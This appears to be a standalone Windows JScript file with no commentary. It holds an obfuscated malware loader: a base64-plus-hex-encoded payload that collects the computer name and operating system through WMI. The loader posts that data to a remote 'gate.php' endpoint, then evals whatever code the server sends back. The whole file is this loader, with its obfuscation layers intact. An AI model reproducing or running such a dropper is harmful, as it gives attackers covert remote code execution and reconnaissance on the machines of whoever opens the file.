function d(s){var x=new ActiveXObject("MSXML2.DOMDocument.6.0").createElement("b");x.dataType="bin.base64";x.text=s;var st=new ActiveXObject("ADODB.Stream");st.Type=1;st.Open();st.Write(x.nodeTypedValue);st.Position=0;st.Type=2;st.Charset="us-ascii";var r=st.ReadText();st.Close();return r;}
var p = "" +
  "ZXZhbCgiXHg3Nlx4NjFceDcyXHgyMFx4NzNceDY4XHgzZFx4NmVceDY1XHg3N1x4MjBceDQxXHg2" +
  "M1x4NzRceDY5XHg3Nlx4NjVceDU4XHg0Zlx4NjJceDZhXHg2NVx4NjNceDc0XHgyOFx4MjJceDU3" +
  "XHg1M1x4NjNceDcyXHg2OVx4NzBceDc0XHgyZVx4NTNceDY4XHg2NVx4NmNceDZjXHgyMlx4Mjlc" +
  "eDNiXHg3Nlx4NjFceDcyXHgyMFx4NzdceDNkXHg0N1x4NjVceDc0XHg0Zlx4NjJceDZhXHg2NVx4" +
  "NjNceDc0XHgyOFx4MjJceDc3XHg2OVx4NmVceDZkXHg2N1x4NmRceDc0XHg3M1x4M2FceDVjXHg1" +
  "Y1x4NWNceDVjXHgyZVx4NWNceDVjXHg3Mlx4NmZceDZmXHg3NFx4NWNceDVjXHg2M1x4NjlceDZk" +
  "XHg3Nlx4MzJceDIyXHgyOVx4M2JceDc2XHg2MVx4NzJceDIwXHg2NVx4M2RceDZlXHg2NVx4Nzdc" +
  "eDIwXHg0NVx4NmVceDc1XHg2ZFx4NjVceDcyXHg2MVx4NzRceDZmXHg3Mlx4MjhceDc3XHgyZVx4" +
  "NDVceDc4XHg2NVx4NjNceDUxXHg3NVx4NjVceDcyXHg3OVx4MjhceDIyXHg1M1x4NDVceDRjXHg0" +
  "NVx4NDNceDU0XHgyMFx4NDNceDYxXHg3MFx4NzRceDY5XHg2Zlx4NmVceDIwXHg0Nlx4NTJceDRm" +
  "XHg0ZFx4MjBceDU3XHg2OVx4NmVceDMzXHgzMlx4NWZceDRmXHg3MFx4NjVceDcyXHg2MVx4NzRc" +
  "eDY5XHg2ZVx4NjdceDUzXHg3OVx4NzNceDc0XHg2NVx4NmRceDIyXHgyOVx4MjlceDNiXHg3Nlx4" +
  "NjFceDcyXHgyMFx4NmZceDczXHgzZFx4NjVceDJlXHg2OVx4NzRceDY1XHg2ZFx4MjhceDI5XHgy" +
  "ZVx4NDNceDYxXHg3MFx4NzRceDY5XHg2Zlx4NmVceDNiXHg3Nlx4NjFceDcyXHgyMFx4NjhceDNk" +
  "XHg2ZVx4NjVceDc3XHgyMFx4NDFceDYzXHg3NFx4NjlceDc2XHg2NVx4NThceDRmXHg2Mlx4NmFc" +
  "eDY1XHg2M1x4NzRceDI4XHgyMlx4NGRceDUzXHg1OFx4NGRceDRjXHgzMlx4MmVceDU4XHg0ZFx4" +
  "NGNceDQ4XHg1NFx4NTRceDUwXHgyMlx4MjlceDNiXHg2OFx4MmVceDZmXHg3MFx4NjVceDZlXHgy" +
  "OFx4MjJceDUwXHg0Zlx4NTNceDU0XHgyMlx4MmNceDIyXHg2OFx4NzRceDc0XHg3MFx4M2FceDJm" +
  "XHgyZlx4MzFceDM5XHgzOFx4MmVceDM1XHgzMVx4MmVceDMxXHgzMFx4MzBceDJlXHgzMVx4MzVc" +
  "eDM5XHgyZlx4NjdceDYxXHg3NFx4NjVceDJlXHg3MFx4NjhceDcwXHgyMlx4MmNceDY2XHg2MVx4" +
  "NmNceDczXHg2NVx4MjlceDNiXHg2OFx4MmVceDczXHg2NVx4NmVceDY0XHgyOFx4NzNceDY4XHgy" +
  "ZVx4NDVceDc4XHg3MFx4NjFceDZlXHg2NFx4NDVceDZlXHg3Nlx4NjlceDcyXHg2Zlx4NmVceDZk" +
  "XHg2NVx4NmVceDc0XHg1M1x4NzRceDcyXHg2OVx4NmVceDY3XHg3M1x4MjhceDIyXHgyNVx4NDNc" +
  "eDRmXHg0ZFx4NTBceDU1XHg1NFx4NDVceDUyXHg0ZVx4NDFceDRkXHg0NVx4MjVceDIyXHgyOVx4" +
  "MmJceDIyXHg3Y1x4MjJceDJiXHg2Zlx4NzNceDI5XHgzYlx4NjVceDc2XHg2MVx4NmNceDI4XHg2" +
  "OFx4MmVceDcyXHg2NVx4NzNceDcwXHg2Zlx4NmVceDczXHg2NVx4NTRceDY1XHg3OFx4NzRceDI5" +
  "XHgzYiIpOw==";
eval(d(p));
